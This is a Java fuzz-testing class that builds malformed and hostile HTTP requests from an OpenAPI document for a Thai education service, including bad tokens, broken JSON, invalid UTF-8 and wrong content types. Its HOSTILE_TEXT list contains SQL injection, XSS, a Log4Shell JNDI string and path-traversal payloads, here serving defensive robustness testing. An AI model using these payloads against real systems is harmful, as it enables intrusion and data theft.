package th.tambon.testkit.fuzz;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import th.tambon.testkit.TestTokens;

import java.io.ByteArrayOutputStream;
import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;

import static th.tambon.testkit.fuzz.OpenApiDocument.map;

/**
 * Malformed and hostile requests derived from an OpenAPI document, as jqwik arbitraries: wrong types, huge and
 * negative numbers, overlong, invalid-UTF-8 and Thai-combining-mark strings, SQL and HTML injection, bad dates,
 * missing, duplicated and unknown fields, malformed JSON, wrong content types and methods, and tokens that are
 * missing, expired, tampered, signed with another key, of the wrong role or of another ESA.
 */
public final class HostileRequests {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> HOSTILE_TEXT = List.of(
            "' OR '1'='1", "'; DROP TABLE school; --", "1; SELECT pg_sleep(10)--", "\" OR \"\"=\"",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://x/a}",
            "../../etc/passwd", "..%2F..%2F", "", " ", "\u0000", "\u0007bell", "\uFEFFbom", "\u202Eevil",
            "\u200B\u200B", "โรงเรียน\u0E31\u0E48\u0E49\u0E4A\u0E4B\u0E4C", "\u0E48\u0E48\u0E48\u0E48",
            "กำ\u0E33\u0E33", "บ้าน" + "\u0E47".repeat(50), "😀🏫", "null", "true", "[]", "{}",
            "2026-02-30", "2026-13-01T00:00:00Z", "31/12/2563", "yesterday", "9999999-01-01T00:00:00Z",
            "-1", "99999999999999999999999", "1e309", "NaN", "0x10", "2147483648", "-2147483649",
            "P31-4' --", "31040001 OR 1=1", "P99-99", "S00-0");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "application/xml",
            "application/x-www-form-urlencoded", "application/json; charset=ISO-8859-1", "multipart/form-data",
            "application/merge-patch+json");

    private final List<OpenApiDocument.Operation> operations;
    private final String ownEsa;
    private final String otherEsa;

    /**
     * @param document the service's document
     * @param ownEsa   an ESA the officer tokens are scoped to
     * @param otherEsa another ESA, for tokens of the wrong ESA
     */
    public HostileRequests(OpenApiDocument document, String ownEsa, String otherEsa) {
        this.operations = document.operations();
        this.ownEsa = ownEsa;
        this.otherEsa = otherEsa;
        if (operations.isEmpty()) {
            throw new IllegalArgumentException("the document has no operations");
        }
    }

    public Arbitrary<FuzzRequest> requests() {
        return Arbitraries.of(operations).flatMap(this::requestsFor);
    }

    private Arbitrary<FuzzRequest> requestsFor(OpenApiDocument.Operation operation) {
        Arbitrary<String> method = Arbitraries.frequencyOf(
                w(19, Arbitraries.just(operation.method())),
                w(1, Arbitraries.of("PUT", "PATCH", "DELETE", "OPTIONS")));
        return Combinators.combine(method, path(operation), query(operation), body(operation), token(),
                        contentType())
                .as((m, path, query, body, token, contentType) -> {
                    Map<String, String> headers = new LinkedHashMap<>();
                    if (token.value() != null) {
                        headers.put("Authorization", "Bearer " + token.value());
                    }
                    boolean sendsBody = operation.body() != null && !m.equals("GET");
                    return new FuzzRequest(m, path + query, sendsBody ? body.bytes() : null,
                            sendsBody ? contentType : null, headers,
                            "token=" + token.what() + (sendsBody ? " body=" + body.what() : ""));
                });
    }

    // --- tokens

    record Token(String what, String value) {
    }

    private Arbitrary<Token> token() {
        return Arbitraries.frequencyOf(
                t(45, () -> new Token("admin", TestTokens.admin())),
                t(10, () -> new Token("officer-own", TestTokens.officer(ownEsa))),
                t(12, () -> new Token("officer-other-esa", TestTokens.officer(otherEsa))),
                t(5, () -> new Token("viewer", TestTokens.viewer())),
                t(4, () -> new Token("director", TestTokens.director("31040001"))),
                t(4, () -> new Token("expired", TestTokens.expired("OBEC_ADMIN"))),
                t(4, () -> new Token("tampered", TestTokens.tampered(TestTokens.viewer()))),
                t(3, () -> new Token("another-key", TestTokens.signedWithAnotherKey("OBEC_ADMIN"))),
                t(3, () -> new Token("unsigned", TestTokens.unsigned("OBEC_ADMIN"))),
                t(2, () -> new Token("unknown-role", TestTokens.token("x", "STUDENT", null, null, Duration.ofMinutes(5)))),
                t(2, () -> new Token("garbage", "not.a.token")),
                t(2, () -> new Token("none", null)));
    }

    private static Tuple.Tuple2<Integer, Arbitrary<? extends Token>> t(int weight, Supplier<Token> token) {
        return Tuple.of(weight, Arbitraries.create(token::get));
    }

    private static <T> Tuple.Tuple2<Integer, Arbitrary<? extends T>> w(int weight, Arbitrary<? extends T> arbitrary) {
        return Tuple.of(weight, arbitrary);
    }

    // --- path and query

    private Arbitrary<String> path(OpenApiDocument.Operation operation) {
        List<OpenApiDocument.Parameter> inPath = operation.parameters().stream()
                .filter(p -> p.in().equals("path")).toList();
        Arbitrary<String> path = Arbitraries.just(operation.path());
        for (OpenApiDocument.Parameter parameter : inPath) {
            path = path.flatMap(p -> parameterValue(parameter).map(v -> p.replace("{" + parameter.name() + "}",
                    v.isEmpty() ? "%20" : encode(v))));
        }
        return path;
    }

    private Arbitrary<String> query(OpenApiDocument.Operation operation) {
        List<OpenApiDocument.Parameter> inQuery = operation.parameters().stream()
                .filter(p -> p.in().equals("query")).toList();
        Arbitrary<List<String>> pairs = Arbitraries.just(List.of());
        for (OpenApiDocument.Parameter parameter : inQuery) {
            Arbitrary<List<String>> one = Arbitraries.frequencyOf(
                    w(3, Arbitraries.just(List.<String>of())),
                    w(4, parameterValue(parameter).map(v -> List.of(pair(parameter.name(), v)))),
                    w(1, Combinators.combine(parameterValue(parameter), parameterValue(parameter))
                            .as((a, b) -> List.of(pair(parameter.name(), a), pair(parameter.name(), b)))),
                    w(1, Arbitraries.of("%C3%28", "%FF%FE", "%E0%A4", "%00")
                            .map(raw -> List.of(parameter.name() + "=" + raw))));
            pairs = Combinators.combine(pairs, one).as((a, b) -> {
                List<String> all = new ArrayList<>(a);
                all.addAll(b);
                return all;
            });
        }
        return pairs.map(all -> all.isEmpty() ? "" : "?" + String.join("&", all));
    }

    private Arbitrary<String> parameterValue(OpenApiDocument.Parameter parameter) {
        Object example = parameter.example() != null ? parameter.example() : map(parameter.schema()).get("default");
        return Arbitraries.frequencyOf(
                w(2, Arbitraries.just(example == null ? "x" : String.valueOf(example))),
                w(5, hostileText()),
                w(2, Arbitraries.longs().map(String::valueOf)),
                w(1, Arbitraries.strings().withCharRange('\u0E00', '\u0E7F').ofMaxLength(300)));
    }

    private static String pair(String name, String value) {
        return encode(name) + "=" + encode(value);
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    // --- body

    record Body(String what, byte[] bytes) {
    }

    private Arbitrary<Body> body(OpenApiDocument.Operation operation) {
        if (operation.body() == null) {
            return Arbitraries.just(new Body("none", null));
        }
        Map<String, Object> properties = map(operation.body().get("properties"));
        List<String> names = new ArrayList<>(properties.keySet());
        // a valid body to start from: the documented examples, codes drawn afresh so that a valid body is new
        List<Arbitrary<Object>> values = new ArrayList<>();
        properties.forEach((name, schema) -> values.add(validValueOf(map(schema))));
        Arbitrary<Map<String, Object>> valid = Combinators.combine(values).as(drawn -> {
            Map<String, Object> body = new LinkedHashMap<>();
            for (int i = 0; i < names.size(); i++) {
                body.put(names.get(i), drawn.get(i));
            }
            return body;
        });
        Arbitrary<Mutation> mutation = Combinators.combine(Arbitraries.of(MutationKind.values()),
                names.isEmpty() ? Arbitraries.just("field") : Arbitraries.of(names), jsonValue())
                .as(Mutation::new);
        Arbitrary<List<Mutation>> changes = Arbitraries.frequencyOf(w(35, Arbitraries.just(List.<Mutation>of())),
                w(65, mutation.list().ofMinSize(1).ofMaxSize(3)));
        return Combinators.combine(valid, changes, shapes(),
                        Arbitraries.integers().between(0, 10_000))
                .as((example, mutations, shape, cut) -> render(example, mutations, shape, cut));
    }

    enum MutationKind { REMOVE, SET, ADD_UNKNOWN, KEEP }

    enum Shape { OBJECT, DUPLICATE_FIELD, TRUNCATED, INVALID_UTF8, NOT_AN_OBJECT, EMPTY, OVER_64_KB }

    private static Arbitrary<Shape> shapes() {
        return Arbitraries.frequency(Tuple.of(10, Shape.OBJECT), Tuple.of(2, Shape.DUPLICATE_FIELD),
                Tuple.of(1, Shape.TRUNCATED), Tuple.of(2, Shape.INVALID_UTF8), Tuple.of(1, Shape.NOT_AN_OBJECT),
                Tuple.of(1, Shape.EMPTY), Tuple.of(1, Shape.OVER_64_KB));
    }

    record Mutation(MutationKind kind, String field, Object value) {
    }

    private static Body render(Map<String, Object> example, List<Mutation> mutations, Shape shape, int cut) {
        Map<String, Object> body = new LinkedHashMap<>(example);
        List<String> what = new ArrayList<>();
        for (Mutation m : mutations) {
            switch (m.kind()) {
                case REMOVE -> body.remove(m.field());
                case SET -> body.put(m.field(), m.value());
                case ADD_UNKNOWN -> body.put("unknown_" + m.field(), m.value());
                case KEEP -> {
                }
            }
            what.add(m.kind() + " " + m.field());
        }
        String json = write(body);
        byte[] bytes = switch (shape) {
            case OBJECT -> json.getBytes(StandardCharsets.UTF_8);
            case DUPLICATE_FIELD -> (json.substring(0, json.length() - 1)
                    + (body.isEmpty() ? "" : ",") + "\"" + duplicated(mutations, body) + "\":" + write(firstValue(mutations))
                    + "}").getBytes(StandardCharsets.UTF_8);
            case TRUNCATED -> json.substring(0, Math.min(json.length() - 1, cut % Math.max(1, json.length())))
                    .getBytes(StandardCharsets.UTF_8);
            case INVALID_UTF8 -> invalidUtf8(json, cut);
            case NOT_AN_OBJECT -> write(firstValue(mutations)).getBytes(StandardCharsets.UTF_8);
            case EMPTY -> new byte[0];
            case OVER_64_KB -> {
                body.put("padding", "ก".repeat(25_000));
                yield write(body).getBytes(StandardCharsets.UTF_8);
            }
        };
        return new Body((what.isEmpty() ? "valid" : String.join(",", what)) + " as " + shape, bytes);
    }

    private static String duplicated(List<Mutation> mutations, Map<String, Object> body) {
        return mutations.isEmpty() ? body.keySet().stream().findFirst().orElse("field") : mutations.get(0).field();
    }

    private static Object firstValue(List<Mutation> mutations) {
        return mutations.isEmpty() ? "duplicate" : mutations.get(0).value();
    }

    /** The JSON with bytes that are not UTF-8 (a lone continuation byte, 0xFF, an overlong form) inside a string. */
    private static byte[] invalidUtf8(String json, int where) {
        byte[] utf8 = json.getBytes(StandardCharsets.UTF_8);
        int quote = json.indexOf("\":\"");
        int at = quote < 0 ? Math.min(utf8.length, 1) : json.substring(0, quote + 3).getBytes(StandardCharsets.UTF_8).length;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(utf8, 0, at);
        byte[][] bad = {{(byte) 0xC3, (byte) 0x28}, {(byte) 0xFF}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0x80},
                {(byte) 0xED, (byte) 0xA0, (byte) 0x80}};
        out.writeBytes(bad[where % bad.length]);
        out.write(utf8, at, utf8.length - at);
        return out.toByteArray();
    }

    private Arbitrary<Object> jsonValue() {
        return Arbitraries.oneOf(
                hostileText().map(s -> (Object) s),
                Arbitraries.longs().map(l -> (Object) l),
                Arbitraries.of(new BigDecimal("1e400"), new BigDecimal("-99999999999999999999999999"),
                        new BigDecimal("0.0000001"), new BigDecimal("-1")).map(b -> (Object) b),
                Arbitraries.of(Boolean.TRUE, Boolean.FALSE).map(b -> (Object) b),
                Arbitraries.just(null),
                Arbitraries.of(List.of(), List.of("a", "b"), Map.of(), Map.of("nested", Map.of("deep", 1)))
                        .map(v -> (Object) v),
                Arbitraries.strings().withCharRange('\u0E00', '\u0E7F').ofMinLength(150).ofMaxLength(2_000)
                        .map(s -> (Object) s));
    }

    private static Arbitrary<String> hostileText() {
        return Arbitraries.oneOf(Arbitraries.of(HOSTILE_TEXT),
                Arbitraries.integers().between(190, 6_000).map("ก"::repeat),
                Arbitraries.strings().all().ofMaxLength(40));
    }

    private Arbitrary<String> contentType() {
        return Arbitraries.frequencyOf(w(17, Arbitraries.just("application/json")),
                w(3, Arbitraries.of(CONTENT_TYPES)));
    }

    /** A value the schema accepts: a pattern of digits ({@code [0-9]{8}}) drawn at random, else the example. */
    private static Arbitrary<Object> validValueOf(Map<String, Object> schema) {
        Object pattern = schema.get("pattern");
        if (pattern instanceof String p) {
            var digits = java.util.regex.Pattern.compile("\\[0-9]\\{(\\d+)}").matcher(p);
            if (digits.matches()) {
                return Arbitraries.strings().numeric().ofLength(Integer.parseInt(digits.group(1))).map(v -> (Object) v);
            }
        }
        Object example = exampleOf(schema);
        return Arbitraries.just(example);
    }

    private static Object exampleOf(Map<String, Object> schema) {
        if (schema.containsKey("example")) {
            return schema.get("example");
        }
        return switch (String.valueOf(schema.get("type"))) {
            case "integer", "number" -> 1;
            case "boolean" -> true;
            case "array" -> List.of();
            case "object" -> Map.of();
            default -> "x";
        };
    }

    private static String write(Object value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
